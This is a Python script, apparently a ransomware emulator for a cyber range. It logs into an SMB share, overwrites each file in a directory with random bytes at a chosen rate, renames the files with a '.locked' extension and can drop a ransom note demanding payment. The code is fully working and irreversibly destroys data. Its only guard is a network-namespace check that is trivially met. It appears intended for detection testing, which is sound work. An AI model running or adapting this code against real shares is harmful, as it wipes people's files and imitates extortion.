#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""ransom.py HOST USER PASSWORD SHARE DIRECTORY [--rate N] [--ext EXT] [--in-place] [--note] [--first N]: what
ransomware does to a share, at N files a second: each file is read, overwritten with noise of the same
length and, unless --in-place, renamed. Prints how many, and the time of each in seconds since the epoch.

Only inside a network namespace of the range."""
import argparse
import os
import subprocess
import sys
import time

from impacket.smbconnection import SMBConnection

if not subprocess.run(["ip", "netns", "identify", str(os.getpid())], capture_output=True, text=True).stdout.strip():
    sys.exit("not in a namespace of the range")
p = argparse.ArgumentParser()
for a in ("host", "user", "password", "share", "directory"):
    p.add_argument(a)
p.add_argument("--rate", type=float, default=20)
p.add_argument("--ext", default=".locked")
p.add_argument("--in-place", action="store_true")
p.add_argument("--note", action="store_true")
p.add_argument("--first", type=int, default=0, help="only so many bytes of each file")
a = p.parse_args()

c = SMBConnection(a.host, a.host)
c.login(a.user, a.password, "CORP")
tree = c.connectTree(a.share)
names = sorted(f.get_longname() for f in c.listPath(a.share, a.directory + "\\*") if not f.is_directory())
begun = time.time()
for n, name in enumerate(names):
    time.sleep(max(0, begun + n / a.rate - time.time()))
    path = a.directory + "\\" + name
    f = c.openFile(tree, path)
    size = c.queryInfo(tree, f)["EndOfFile"]
    size = min(size, a.first or size)
    at = 0
    while at < size:
        block = c.readFile(tree, f, at, min(32768, size - at))
        c.writeFile(tree, f, os.urandom(len(block)), at)
        at += len(block)
    c.closeFile(tree, f)
    if not a.in_place:
        c.rename(a.share, path, path + a.ext)
    print(f"{time.time():.6f} {name}")
    if a.note and n == 0:
        n = c.createFile(tree, a.directory + "\\HOW_TO_DECRYPT.txt")
        c.writeFile(tree, n, b"Your files are encrypted. Pay.\n")
        c.closeFile(tree, n)
print(len(names), "files")
